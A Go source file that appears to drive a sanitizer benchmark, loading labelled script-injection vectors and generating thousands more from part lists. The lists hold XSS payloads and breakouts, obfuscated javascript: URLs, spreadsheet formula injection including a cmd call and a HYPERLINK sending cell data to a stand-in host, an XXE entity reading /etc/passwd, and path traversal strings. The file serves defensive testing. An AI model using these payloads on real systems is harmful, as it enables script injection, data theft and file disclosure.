package main

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

// vector is something that runs a script, or was once made to run one.
type vector struct {
	V    string
	Kind string // "html", "parser", "url", "attr" or "text"
	ID   string
	live bool // it runs a script where it is put raw into a page
}

// ownVectors is how many we write ourselves: as many as the labelled set has.
const ownVectors = 8538

// benchFolder is where labelled data lies that is not in the repository.
func (b *bench) benchFolder(name string) string {
	if set := os.Getenv("DATELINE_BENCH"); set != "" {
		return filepath.Join(set, name)
	}
	return filepath.Join(b.root, "..", "shared", "bench", name)
}

// lines decodes a file of JSON lines, zipped or not. Where there is no such
// file it decodes none.
func lines[T any](name string) (list []T, err error) {
	f, err := os.Open(name)
	if errors.Is(err, fs.ErrNotExist) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	defer f.Close()
	in := bufio.NewReader(f)
	if strings.HasSuffix(name, ".gz") {
		z, err := gzip.NewReader(f)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		in = bufio.NewReader(z)
	}
	decoder := json.NewDecoder(in)
	for decoder.More() {
		var x T
		if err := decoder.Decode(&x); err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		list = append(list, x)
	}
	return list, nil
}

// vectors are those of the labelled set and our own: all of ours where the set
// is missing, and one in eight beside it. The note says which.
func (b *bench) vectors() (list []vector, note string, err error) {
	folder := b.benchFolder("hostile")
	list, err = lines[vector](filepath.Join(folder, "vectors.jsonl.gz"))
	if err != nil {
		return nil, "", err
	}
	if len(list) == 0 {
		list = made(ownVectors)
		return list, fmt.Sprintf("%d vectors, all our own: the labelled set is not here", len(list)), nil
	}
	ids, err := os.ReadFile(filepath.Join(folder, "live-chromium156.txt"))
	if err != nil {
		return nil, "", err
	}
	live := map[string]bool{}
	for id := range strings.FieldsSeq(string(ids)) {
		live[id] = true
	}
	for i := range list {
		list[i].live = live[list[i].ID]
	}
	labelled := len(list)
	for i, v := range made(ownVectors) {
		if i%8 == 0 {
			list = append(list, v)
		}
	}
	return list, fmt.Sprintf("%d vectors of the labelled set, %d of our own", labelled, len(list)-labelled), nil
}

// The parts of which our own vectors are made.
var (
	// what an attacker writes to leave the place he was given
	breakouts = []string{"", `">`, `'>`, "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>",
		"</script>",
		"</noscript>", "</template>", "</select>", "</iframe>", "</xmp>", "<svg><style>",
		"<math><mtext><table><mglyph><style>",
		"<svg><desc>", "<math><annotation-xml encoding=text/html>", "<select><option>", "<table><tr>",
		"<plaintext>", "<!-- --!>",
		"<form><math><mtext></form><form>", "<noscript><p title='</noscript>", "<svg></p><style><a id='</style>",
		"&lt;/p&gt;"}
	// elements that do something by themselves, with the event that tells them so
	runners = []string{"img src=x onerror", "svg onload", "video src=x onerror", "audio src=x onerror", "body onload",
		"details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
		"marquee onstart", "object data=x onerror", "iframe onload", "style onload",
		"link rel=stylesheet href=x onerror",
		"div onclick", "p onmouseover", "a href=# onclick", "button onclick", "form onsubmit",
		"video><source onerror",
		"svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "math onclick",
		"x-y onpointerdown",
		"p tabindex=1 autofocus onfocus", "input type=image src=x onerror", "picture><img src=x onerror",
		"div style=animation-name:x onanimationstart", "p popover onbeforetoggle", "dialog open oncancel"}
	// how the name of an attribute and its value can be tied
	ties = []string{"=%s>", "='%s'>", `="%s">`, " = %s >", "=%s //", "\n=\n'%s'>", "\t=%s\f>", "=%s<"}
	// elements whose mere presence is wrong
	carriers = []string{`<script>%s</script>`, `<script src="data:text/javascript,%s"></script>`,
		`<svg><script>%s</script></svg>`,
		`<svg><script xlink:href="data:,%s"></script></svg>`, `<iframe srcdoc="<script>parent.%s</script>"></iframe>`,
		`<iframe src="javascript:parent.%s"></iframe>`, `<object data="javascript:%s"></object>`,
		`<embed src="javascript:%s">`,
		`<a href="javascript:%s">x</a>`, `<a href="java&Tab;script:%s">x</a>`, `<a href="&#1;javascript:%s">x</a>`,
		`<svg><a xlink:href="javascript:%s"><text y=9>x</text></a></svg>`, `<math href="javascript:%s">x</math>`,
		`<form action="javascript:%s"><button>x</button></form>`,
		`<button formaction="javascript:%s" form=f>x</button>`,
		`<meta http-equiv=refresh content="0;url=javascript:%s">`, `<base href="javascript:%s//">`,
		`<template shadowrootmode=open><img src=x onerror=%s></template>`, `<p title="<img src=x onerror=%s>">x</p>`,
		`<svg><use href="data:image/svg+xml,<svg id=x><image onerror=%s href=x>#x"></use></svg>`,
		`<map><area href="javascript:%s" shape=default></map>`,
		`<svg><animate attributeName=href to="javascript:%s"></svg>`,
		`<input value="x" onfocus=%s autofocus name=attributes>`,
		`<img name=body><form id=document><input name=cookie onfocus=%s autofocus></form>`,
		`<style>@import 'http://out.localhost/%s';</style>`,
		`<link rel=prefetch href="http://out.localhost/%s">`,
		`<div style="background:url(http://out.localhost/%s)">x</div>`,
		`<a href=/x ping="http://out.localhost/%s">x</a>`, `<video poster="http://out.localhost/%s"></video>`,
		`<img srcset="http://out.localhost/%s 9x">`}
	// ways to write a call
	calls = []string{"alert(1)", "alert`1`", "top.alert(1)", "window['al'+'ert'](1)", "(alert)(1)", "alert&lpar;1)",
		"&#97;lert(1)",
		"\\u0061lert(1)", "self[`alert`](1)", "[1].map(alert)"}
	// addresses that are none of the web
	addresses = []string{"javascript:%s", "JaVaScRiPt:%s", "java\tscript:%s", "java\nscript:%s",
		" \x01javascript:%s", "javascript://a.example/%%0a%s",
		"data:text/html,<script>%s</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#%s",
		"data:image/svg+xml,<svg onload=%s>",
		"vbscript:%s", "blob:https://a.example/%s", "view-source:javascript:%s", "filesystem:http://a.example/%s",
		"file:///etc/passwd?%s",
		"//out.localhost/%s", `\\out.localhost\%s`, "https:javascript:%s", "https://a.example@out.localhost/%s",
		"https://user:pass@a.example/%s",
		"http://a.example/\" onerror=\"%s", "http://a.example/' onload='%s", "chrome-extension://x/%s",
		"moz-extension://x/%s", "about:blank#%s",
		"ms-appinstaller:%s", "intent://x#Intent;%s", "http://[::1]:1/%s", "https://xn--80ak6aa92e.example/%s",
		"https://а.example/%s", "mailto:a@b.example?%s"}
	// words that other programs take for more
	wordings = []string{"=HYPERLINK(\"http://out.localhost/?\"&A1,\"%s\")", "=cmd|' /C calc'!A0 %s", "+1+%s",
		"-1-%s", "@SUM(1)%s", "\t=1+%s", "\r=1+%s",
		"a;=1+%s", "“=1”,\n=1+%s", "＝1+%s", "![x](javascript:%s)", "[x](javascript:%s)", "<javascript:%s>",
		"[x]: javascript:%s", "```\n<script>%s</script>\n```",
		"{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "$1 $& $` %s", "__proto__ %s",
		"constructor %s", "\u202e%s\u202c", "\u2066%s", "\u200b%s\u2060",
		"\ufeff%s", "\U000e0041\U000e0042%s", "../../%s", "..\\..\\%s", "con %s", "%s\x00.html",
		"]]><script>%s</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;%s"}
)

// runs reports whether an element runs its event by itself, or when it is poked.
func runs(element string) bool {
	name, _, _ := strings.Cut(element, " ")
	return name == "img" || name == "div" || name == "p" || name == "a" || name == "video" || name == "input"
}

// made returns so many vectors of our own, no two alike, spread over all the
// ways in which the parts can be put together.
func made(n int) []vector {
	var all []vector
	seen := map[string]bool{}
	add := func(kind, v string, live bool) {
		if !seen[v] {
			seen[v] = true
			all = append(all, vector{V: v, Kind: kind, live: live})
		}
	}
	for _, out := range breakouts {
		for _, call := range calls {
			for _, c := range carriers {
				add("html", out+fmt.Sprintf(c, call), false)
			}
			for _, r := range runners {
				for i, tie := range ties {
					add("html", out+"<"+r+fmt.Sprintf(tie, call),
						out == "" && strings.HasPrefix(call, "alert") && i < 3 && runs(r))
				}
			}
		}
	}
	for _, call := range calls {
		for _, a := range addresses {
			for _, more := range []string{"", " ", "#", "\x00"} {
				add("url", fmt.Sprintf(a, call)+more, false)
			}
		}
		for _, w := range wordings {
			for _, before := range []string{"", " ", "“", "x "} {
				add("text", before+fmt.Sprintf(w, call), false)
			}
		}
	}
	var list []vector
	for i := range n {
		list = append(list, all[i*len(all)/n])
	}
	return list
}
